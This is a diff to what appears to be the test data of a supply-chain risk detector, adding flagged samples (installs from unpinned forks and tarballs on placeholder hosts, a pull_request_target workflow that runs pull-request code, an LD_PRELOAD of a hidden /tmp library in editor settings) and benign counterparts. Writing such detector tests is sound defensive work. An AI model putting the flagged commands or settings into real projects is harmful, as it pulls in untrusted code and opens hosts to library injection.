@@ -59,6 +59,13 @@ HELD = [
     ("unpinned_remote_tool", "Apply configs with uvx --from git+https://example.org/patcher@main patcher --apply"),
     ("unpinned_remote_tool", "Installs are faster with pip install --index-url http://mirror.example.net/simple -r "
                              "requirements.txt"),
+    ("unpinned_remote_tool", "PyPI's build is broken: pip install git+https://git.forks.example/anon/requests.git@main"),
+    ("unpinned_remote_tool", "Hotfix build: npm i https://tarballs.example.cc/ui-kit-9.9.9.tgz before running the app."),
+    ("unpinned_remote_tool", "After cloning, cargo install --git https://git.crates.example/someone/cargo-boost."),
+    ("pull_request_target_runs_pr_code", "Preview builds: a workflow on pull_request_target checks out "
+                                         "${{ github.event.pull_request.head.sha }} and runs make release."),
+    ("library_preload_hidden", 'In .vscode/settings.json: "terminal.integrated.env.linux": {"LD_PRELOAD": '
+                               '"/tmp/.cache/libhook.so"}'),
 ]
 
 PASSED = [
@@ -84,6 +91,10 @@ PASSED = [
     "docker run --rm -v $(pwd):/src example/linter:1.4 checks the repository.",
     "In .pre-commit-config.yaml pin each `repo:` to a tagged `rev: v4.6.0`.",
     "Dots and dashes in the changelog separate sections: - - - - . . . .",
+    "pip install -e '.[dev]' then pip install -r requirements-dev.txt",
+    "npm install --save-dev typescript@5.4 and commit the lockfile.",
+    "Workers run with LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 to cut memory.",
+    "The labeler workflow uses pull_request_target and never checks out the pull request's code.",
 ]
 
 
